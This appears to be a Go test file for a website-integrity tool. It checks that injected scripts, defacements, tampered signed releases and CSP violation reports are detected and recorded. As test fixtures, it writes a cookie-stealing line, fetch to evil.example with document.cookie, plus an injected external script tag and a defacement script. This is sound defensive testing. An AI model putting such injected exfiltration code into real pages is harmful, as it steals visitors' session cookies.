package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/kedge-project/kedge/internal/event"
	"github.com/kedge-project/kedge/internal/evidence"
)

const webHome = `<!doctype html><html><head><title>Maritime Office</title><script src="/site.js"></script></head><body><h1>Welcome</h1>
<p>The organisation sets standards for the safety, security and environmental performance of international shipping.</p>
<p>Its committees meet twice a year with interpretation into six languages.</p></body></html>
`

// office is a web site with its estate.
type office struct {
	t      *testing.T
	dir    string
	estate string
	server *httptest.Server
}

// newOffice makes one; watch is more of its watch: section, each line indented by six.
func newOffice(t *testing.T, watch string) *office {
	t.Helper()
	o := &office{t: t, dir: t.TempDir()}
	o.write("www/index.html", webHome)
	o.write("www/site.js", "document.title += ''\n")
	o.write("password", "secret\n")
	o.server = httptest.NewServer(http.FileServer(http.Dir(filepath.Join(o.dir, "www"))))
	t.Cleanup(o.server.Close)
	o.estate = filepath.Join(o.dir, "kedge.yaml")
	o.write("kedge.yaml", strings.NewReplacer("DIR", o.dir, "URL", o.server.URL, "ORIGIN", strings.TrimPrefix(o.server.URL, "http://")).Replace(`name: office
state: DIR/state
sites:
  - {name: london, role: headquarters}
repositories:
  - {name: main, site: london, location: DIR/repository, password_file: DIR/password}
services:
  - name: website
    repository: main
    assets:
      - {name: files, kind: files, paths: [DIR/www]}
    probes:
      - {name: home, kind: http, url: "URL/"}
    objectives: {rpo: 1h, rto: 1h}
    watch:
      document_root: DIR/www
      pages: ["URL/"]
      origin: ORIGIN
`)+watch)
	o.must(0, "init", "-r", filepath.Join(o.dir, "repository"), "-p", filepath.Join(o.dir, "password"))
	o.must(0, "backup", "--estate", o.estate)
	return o
}

func (o *office) write(name, text string) {
	o.t.Helper()
	full := filepath.Join(o.dir, name)
	if err := os.MkdirAll(filepath.Dir(full), 0o700); err != nil {
		o.t.Fatal(err)
	}
	if err := os.WriteFile(full, []byte(text), 0o600); err != nil {
		o.t.Fatal(err)
	}
}

func (o *office) must(status int, args ...string) string {
	o.t.Helper()
	out, got := kedgeCommand(o.t, args...)
	if got != status {
		o.t.Fatalf("kedge %s ended with status %d, want %d: %s", strings.Join(args, " "), got, status, out)
	}
	return out
}

func (o *office) says(status int, want string, args ...string) {
	o.t.Helper()
	if out := o.must(status, args...); !strings.Contains(out, want) {
		o.t.Errorf("kedge %s says %s, want %q in it", strings.Join(args, " "), out, want)
	}
}

func TestPagesAreApprovedAndWhatDiffersIsShownWithItsPlace(t *testing.T) {
	o := newOffice(t, "      render: false\n")
	diff := []string{"web", "diff", "--estate", o.estate}
	o.says(0, "nobody approved a release", diff...)
	o.write("www/index.html", strings.Replace(webHome, "</body>", `<script src="https://evil.example/kit.js"></script></body>`, 1))
	o.says(1, "script: https://evil.example/kit.js", diff...)
	o.write("www/index.html", webHome)

	o.says(1, "--approver", "web", "approve", "--estate", o.estate)
	o.says(0, "1 page with 1 script approved by A. Person", "web", "approve", "--estate", o.estate, "--approver", "A. Person")
	o.says(0, "0 of 1 page differ", diff...)
	o.says(0, "approved by A. Person", "evidence", "list", "--record", filepath.Join(o.dir, "state", "record"))

	o.write("www/site.js", `fetch("https://evil.example/?" + document.cookie)`)
	var result struct {
		Services []struct {
			Service, Reference, Release, Approver string
			Pages                                 []struct {
				URL, Kind, Technique string
				Differences          []struct{ What, Class, File string }
				Where                struct{ Where, File, Snapshot string }
			}
		}
	}
	out := o.must(1, append(diff, "--json")...)
	if err := json.Unmarshal([]byte(out), &result); err != nil || len(result.Services) != 1 || len(result.Services[0].Pages) != 1 {
		t.Fatalf("%v: %s", err, out)
	}
	s := result.Services[0]
	p := s.Pages[0]
	if s.Reference != "release" || s.Approver != "A. Person" || len(s.Release) != 64 || p.Kind != "page.injected" || p.Technique != "T1189" || p.Differences[0].What != "script file" {
		t.Errorf("told as %+v", s)
	}
	if p.Where.Where != "file" || p.Where.File != filepath.Join(o.dir, "www/site.js") || len(p.Where.Snapshot) != 64 {
		t.Errorf("made in %+v", p.Where)
	}

	// It was a release of the organisation's own.
	o.must(0, "web", "approve", "--estate", o.estate, "--approver", "A. Person")
	o.must(0, diff...)
	o.server.Close()
	o.says(2, "page does not answer", diff...)
}

func TestPagesThatNothingIsKnownOfAreSaidNotToBeCompared(t *testing.T) {
	o := newOffice(t, "      render: false\n")
	text, err := os.ReadFile(o.estate)
	if err != nil {
		t.Fatal(err)
	}
	// The page is made by a program: no file is it.
	o.write("kedge.yaml", strings.Replace(string(text), "pages: [\""+o.server.URL+"/\"]", "pages: [\""+o.server.URL+"/view?id=7\"]", 1))
	o.says(2, "nobody approved its pages: kedge web approve does", "web", "diff", "--estate", o.estate)
	o.says(2, `service "nothing" is not in estate`, "web", "diff", "--estate", o.estate, "nothing")
}

func TestAReleaseThatSomebodyPutThereIsRefused(t *testing.T) {
	o := newOffice(t, "      render: false\n")
	approve := []string{"web", "approve", "--estate", o.estate, "--approver", "A. Person"}
	diff := []string{"web", "diff", "--estate", o.estate}
	o.must(0, approve...)
	kept := filepath.Join(o.dir, "state", "web", "website")
	older := filepath.Join(o.dir, "older")
	if err := os.CopyFS(older, os.DirFS(kept)); err != nil {
		t.Fatal(err)
	}
	o.write("www/site.js", "evil()")
	o.must(0, approve...)
	o.must(0, diff...)

	releases, err := filepath.Glob(filepath.Join(kept, "release-*.json"))
	if err != nil || len(releases) != 1 {
		t.Fatalf("releases kept: %v, %v", releases, err)
	}
	spoil := func(name string, change func(data []byte) []byte, want string) {
		t.Helper()
		data, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, change(data), 0o600); err != nil {
			t.Fatal(err)
		}
		o.says(2, want, diff...)
		if err := os.WriteFile(name, data, 0o600); err != nil {
			t.Fatal(err)
		}
		o.must(0, diff...)
	}
	spoil(releases[0], func(data []byte) []byte { return bytes.Replace(data, []byte("Maritime"), []byte("maritime"), 1) }, "not what was signed")
	spoil(filepath.Join(kept, "release"), func(data []byte) []byte { return bytes.Replace(data, []byte("A. Person"), []byte("B. Person"), 1) }, "verify signature")
	if err := os.RemoveAll(kept); err != nil {
		t.Fatal(err)
	}
	if err := os.CopyFS(kept, os.DirFS(older)); err != nil {
		t.Fatal(err)
	}
	o.says(2, "the record names release", diff...)
}

func TestPagesAreRenderedWhereABrowserIs(t *testing.T) {
	o := newOffice(t, "      render: true\n")
	o.write("www/site.js", "setTimeout(function () {}, 3000)")
	o.says(0, "looked at with", "web", "approve", "--estate", o.estate, "--approver", "A. Person")
	o.write("www/site.js", `setTimeout(function () { document.body.innerHTML = "<h1>Hacked by the Sea Crew</h1>" }, 3000)`)
	out := o.must(1, "web", "diff", "--estate", o.estate)
	if !strings.Contains(out, "page.defaced") || !strings.Contains(out, "text:") {
		t.Errorf("what a script made of the page is told as %s", out)
	}
	pictures, err := filepath.Glob(filepath.Join(o.dir, "state/web/website/pictures/*.png"))
	if err != nil || len(pictures) != 2 {
		t.Errorf("pictures kept: %v (%v), want one before and one after", pictures, err)
	}
}

func TestReportsOfBrowsersGoOnTheRecord(t *testing.T) {
	o := newOffice(t, "      render: false\n")
	o.must(0, "web", "approve", "--estate", o.estate, "--approver", "A. Person")
	ctx, stop := context.WithCancel(t.Context())
	defer stop()
	said := &saidLines{came: make(chan string, 10)}
	ended := make(chan int, 1)
	go func() {
		ended <- run(ctx, []string{"web", "reports", "--estate", o.estate, "--listen", "127.0.0.1:0", "--json"}, said, said)
	}()
	var listening struct{ Address string }
	if err := json.Unmarshal([]byte(<-said.came), &listening); err != nil {
		t.Fatal(err)
	}
	body := fmt.Sprintf(`{"csp-report":{"document-uri":%q,"effective-directive":"script-src","blocked-uri":"https://evil.example/a.js"}}`, o.server.URL+"/")
	resp, err := http.Post("http://"+listening.Address+"/website", "application/csp-report", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNoContent {
		t.Errorf("a report gets status %s", resp.Status)
	}
	stop()
	select {
	case status := <-ended:
		if status != 0 && status != exitCancelled {
			t.Errorf("it ended with status %d", status)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("it does not end")
	}
	events, err := evidence.Read(t.Context(), filepath.Join(o.dir, "state", "record"))
	if err != nil {
		t.Fatal(err)
	}
	last, ok := events[len(events)-1].Fact.(event.SignalRaised)
	if !ok || last.Signal.Kind != "page.reported" || last.Service != "website" {
		t.Errorf("the record ends with %+v", events[len(events)-1])
	}
}

// saidLines passes on each line that is written.
type saidLines struct{ came chan string }

func (l *saidLines) Write(p []byte) (int, error) {
	select {
	case l.came <- string(p):
	default:
	}
	return len(p), nil
}
